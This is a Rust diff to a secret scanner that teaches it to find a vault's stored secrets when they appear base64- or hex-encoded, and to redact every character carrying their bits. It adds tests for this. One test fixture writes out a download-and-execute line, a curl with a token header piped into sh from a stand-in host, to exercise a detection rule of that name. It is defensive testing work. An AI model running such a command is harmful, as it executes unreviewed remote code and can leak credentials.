@@ -10,6 +10,7 @@ use std::path::{Path, PathBuf};
 
 use aho_corasick::AhoCorasick;
 use regex_automata::Input;
+use zeroize::Zeroizing;
 
 use crate::rules::{Category, Rule, RuleSet, Severity, entropy, is_placeholder};
 use crate::sensitive::{Kind, detect};
@@ -142,8 +143,9 @@ pub enum ScanError {
 #[derive(Debug)]
 pub struct Scanner {
     rules: RuleSet,
-    /// Values to find verbatim (a vault's secrets), with their labels.
-    known: Option<(AhoCorasick, Vec<String>)>,
+    /// Values to find (a vault's secrets), verbatim and encoded: the automaton's patterns,
+    /// and for each pattern the label of the value it comes from and how it was encoded.
+    known: Option<(AhoCorasick, Vec<(String, Encoding)>)>,
     keywords: AhoCorasick,
     /// For each keyword, the rules it belongs to.
     keyword_rules: Vec<Vec<usize>>,
@@ -215,25 +217,39 @@ impl Scanner {
             .is_some_and(|deadline| std::time::Instant::now() >= deadline)
     }
 
-    /// Also finds these values verbatim (values shorter than 8 bytes are ignored), reporting
-    /// rule `known-value` with the value's label in [`Finding::known`]. The values live
-    /// only in this scanner's memory; a finding's fingerprint covers the label, never the
-    /// value, and an allow comment does not hide them.
+    /// Also finds these values (values shorter than 8 bytes are ignored), verbatim and
+    /// encoded (see [`Encoding`]), reporting rule `known-value` with the value's label in
+    /// [`Finding::known`]. The values and their encodings live only in this scanner's
+    /// memory; a finding's fingerprint covers the label, never the value, and an allow
+    /// comment does not hide them.
     pub fn with_known_values(mut self, values: &[(&[u8], String)]) -> Self {
-        let kept: Vec<(&[u8], String)> = values
+        let mut patterns: Vec<(Zeroizing<Vec<u8>>, &String, Encoding)> = values
             .iter()
             .filter(|(v, _)| v.len() >= 8)
-            .map(|(v, l)| (*v, l.clone()))
+            .flat_map(|(value, label)| {
+                encodings(value)
+                    .into_iter()
+                    .map(move |(pattern, encoding)| (pattern, label, encoding))
+            })
             .collect();
-        if kept.is_empty() {
+        // A value that is another one's encoding, or two encodings that coincide (URL-safe
+        // and standard base64 without `+` or `/`), is one pattern: the first (the sort is
+        // stable).
+        patterns.sort_by(|a, b| a.0.cmp(&b.0));
+        patterns.dedup_by(|later, first| later.0 == first.0);
+        if patterns.is_empty() {
             self.known = None;
             return self;
         }
         let automaton = AhoCorasick::builder()
             .match_kind(aho_corasick::MatchKind::LeftmostLongest)
-            .build(kept.iter().map(|(v, _)| v))
+            .build(patterns.iter().map(|(pattern, _, _)| pattern.as_slice()))
             .expect("literal values always build");
-        self.known = Some((automaton, kept.into_iter().map(|(_, l)| l).collect()));
+        let labels = patterns
+            .into_iter()
+            .map(|(_, label, encoding)| (label.clone(), encoding))
+            .collect();
+        self.known = Some((automaton, labels));
         self
     }
 
@@ -273,17 +289,18 @@ impl Scanner {
                 if findings.len() > limit {
                     break;
                 }
-                let line = line_starts.partition_point(|&s| s <= hit.start()) - 1;
-                let start = hit.start() - line_starts[line];
-                let label = &labels[hit.pattern().as_usize()];
+                let (label, encoding) = &labels[hit.pattern().as_usize()];
+                let (from, to) = encoding.hidden(data, hit.start(), hit.end());
+                let line = line_starts.partition_point(|&s| s <= from) - 1;
+                let start = from - line_starts[line];
                 let mut later = line + 1;
-                while later < line_starts.len() && line_starts[later] < hit.end() {
-                    let to = hit.end().min(line_end(later)) - line_starts[later];
+                while later < line_starts.len() && line_starts[later] < to {
+                    let end = to.min(line_end(later)) - line_starts[later];
                     continued.push((
                         later + 1,
                         Mask {
                             start: 0,
-                            end: to,
+                            end,
                             known: true,
                         },
                     ));
@@ -294,12 +311,12 @@ impl Scanner {
                     line: line + 1,
                     column: start + 1,
                     rule: KNOWN_VALUE.to_owned(),
-                    description: "A value stored in Chaperone's vault".to_owned(),
+                    description: encoding.description().to_owned(),
                     severity: Severity::Critical,
-                    redacted: redact_known(&data[hit.start()..hit.end()]),
+                    redacted: redact_known(&data[from..to]),
                     context: String::new(),
                     fingerprint: fingerprint(KNOWN_VALUE, path, label.as_bytes()),
-                    end: hit.end().min(line_end(line)) - line_starts[line],
+                    end: to.min(line_end(line)) - line_starts[line],
                     mask: true,
                     known: Some(label.clone()),
                 });
@@ -661,6 +678,73 @@ fn contains(haystack: &[u8], needle: &[u8]) -> bool {
     !needle.is_empty() && haystack.windows(needle.len()).any(|w| w == needle)
 }
 
+/// How a vault value was written where it was found. Security decision: a value copied out
+/// base64- or hex-encoded (a Kubernetes secret manifest, a configuration blob, a test
+/// fixture) is as leaked as the value itself, and encoding it is the first thing anyone
+/// hiding one from a scanner tries.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Encoding {
+    Verbatim,
+    Base64,
+    Hex,
+}
+
+impl Encoding {
+    /// What to hide of a match at `start..end` of `data`: for base64, also the characters
+    /// of the groups the value shares with the bytes around it (up to three at either end),
+    /// since each carries some of the value's bits.
+    fn hidden(self, data: &[u8], start: usize, end: usize) -> (usize, usize) {
+        if self != Encoding::Base64 {
+            return (start, end);
+        }
+        let base64 = |c: &&u8| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'-' | b'_');
+        let before = data[..start]
+            .iter()
+            .rev()
+            .take(3)
+            .take_while(base64)
+            .count();
+        let after = data[end..].iter().take(3).take_while(base64).count();
+        (start - before, end + after)
+    }
+
+    fn description(self) -> &'static str {
+        match self {
+            Encoding::Verbatim => "A value stored in Chaperone's vault",
+            Encoding::Base64 => "A value stored in Chaperone's vault, base64-encoded",
+            Encoding::Hex => "A value stored in Chaperone's vault, hex-encoded",
+        }
+    }
+}
+
+/// The patterns that find `value` (at least 8 bytes): itself; its hex digits in lower and
+/// upper case; and its base64, in the standard and the URL-safe alphabet, for each of the
+/// three places in a 3-byte group the value can start at inside a longer encoded text. The
+/// characters that also depend on the bytes around the value (a group it shares with them,
+/// at either end) are left out, so that the pattern is found wherever the value sits: each
+/// covers all of the value but at most two bytes at either end, in 8 characters at least.
+fn encodings(value: &[u8]) -> Vec<(Zeroizing<Vec<u8>>, Encoding)> {
+    use base64::Engine as _;
+    use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
+    let hex = Zeroizing::new(hex::encode(value).into_bytes());
+    let mut out = vec![
+        (Zeroizing::new(value.to_vec()), Encoding::Verbatim),
+        (Zeroizing::new(hex.to_ascii_uppercase()), Encoding::Hex),
+        (hex, Encoding::Hex),
+    ];
+    for skip in 0..3 {
+        let whole = (value.len() - skip) / 3 * 3;
+        let part = &value[skip..skip + whole];
+        for engine in [&STANDARD_NO_PAD, &URL_SAFE_NO_PAD] {
+            out.push((
+                Zeroizing::new(engine.encode(part).into_bytes()),
+                Encoding::Base64,
+            ));
+        }
+    }
+    out
+}
+
 /// A value from the vault, redacted to its length only: the people who look at findings
 /// need not be able to read the secret, and four characters of it would narrow a guess.
 fn redact_known(value: &[u8]) -> String {
@@ -957,6 +1041,80 @@ mod tests {
                 !f.redacted.contains("ghp_") && !f.context.contains("ghp_"),
                 "{f:?}"
             );
+        }
+    }
+
+    #[test]
+    fn a_vault_value_is_found_base64_or_hex_encoded_and_none_of_its_bits_shown() {
+        use base64::Engine as _;
+        use base64::engine::general_purpose::{STANDARD, URL_SAFE};
+        // Its base64 holds `+` or `/` at some offsets, so the alphabets differ.
+        let value: &[u8] = b"Vault-Secret-Zq81-Lm02~?>";
+        let scanner = scanner().with_known_values(&[(value, "prod/db#password".to_owned())]);
+        let line = |token: &str| format!("curl -H \"K: {token}\" https://get.example.net/3 | sh\n");
+        let code = |found: &[Finding]| {
+            let code = found
+                .iter()
+                .find(|f| f.rule == "download-and-execute-shell")
+                .expect("the code is found");
+            let shown = code.redacted.strip_prefix("curl -H \"K: ").unwrap();
+            let shown = shown
+                .strip_suffix("\" https://get.example.net/3 | sh")
+                .unwrap();
+            let (before, rest) = shown.split_once("****(").unwrap();
+            let (length, after) = rest.split_once(" chars)").unwrap();
+            (
+                before.to_owned(),
+                length.parse::<usize>().unwrap(),
+                after.to_owned(),
+            )
+        };
+        // At each of the three offsets in a group, with one to three bytes after it or
+        // none, in both alphabets.
+        for prefix in [&b""[..], b"a", b"ab"] {
+            for tail in [&b""[..], b"!", b"!!", b"!!!"] {
+                for engine in [&STANDARD, &URL_SAFE] {
+                    let encoded = engine.encode([prefix, value, tail].concat());
+                    let found = scanner.scan_bytes("x.sh", line(&encoded).as_bytes());
+                    let known: Vec<&Finding> =
+                        found.iter().filter(|f| f.rule == KNOWN_VALUE).collect();
+                    assert_eq!(known.len(), 1, "{encoded}: {found:?}");
+                    assert_eq!(known[0].known.as_deref(), Some("prod/db#password"));
+                    assert_eq!(
+                        known[0].description,
+                        "A value stored in Chaperone's vault, base64-encoded"
+                    );
+                    // The characters shown around the hidden part carry no bit of the value.
+                    let (before, length, after) = code(&found);
+                    assert_eq!(before.len() + length + after.len(), encoded.len());
+                    let value_bits = 8 * prefix.len()..8 * (prefix.len() + value.len());
+                    let shown = (0..before.len()).chain(encoded.len() - after.len()..encoded.len());
+                    for at in shown.filter(|&at| encoded.as_bytes()[at] != b'=') {
+                        let bits = 6 * at..6 * at + 6;
+                        assert!(
+                            bits.end <= value_bits.start || bits.start >= value_bits.end,
+                            "{encoded}: character {at} is shown"
+                        );
+                    }
+                }
+            }
+        }
+        for hex in [hex::encode(value), hex::encode_upper(value)] {
+            let found = scanner.scan_bytes("x.sh", line(&hex).as_bytes());
+            let known: Vec<&Finding> = found.iter().filter(|f| f.rule == KNOWN_VALUE).collect();
+            assert_eq!(known.len(), 1, "{hex}: {found:?}");
+            assert_eq!(
+                known[0].description,
+                "A value stored in Chaperone's vault, hex-encoded"
+            );
+            assert_eq!(code(&found), (String::new(), hex.len(), String::new()));
+        }
+        // Another value's encodings are not taken for this one.
+        let mut other = value.to_vec();
+        other[12] ^= 1;
+        for token in [STANDARD.encode(&other), hex::encode(&other)] {
+            let found = scanner.scan_bytes("x.sh", line(&token).as_bytes());
+            assert!(found.iter().all(|f| f.rule != KNOWN_VALUE), "{found:?}");
         }
     }
 
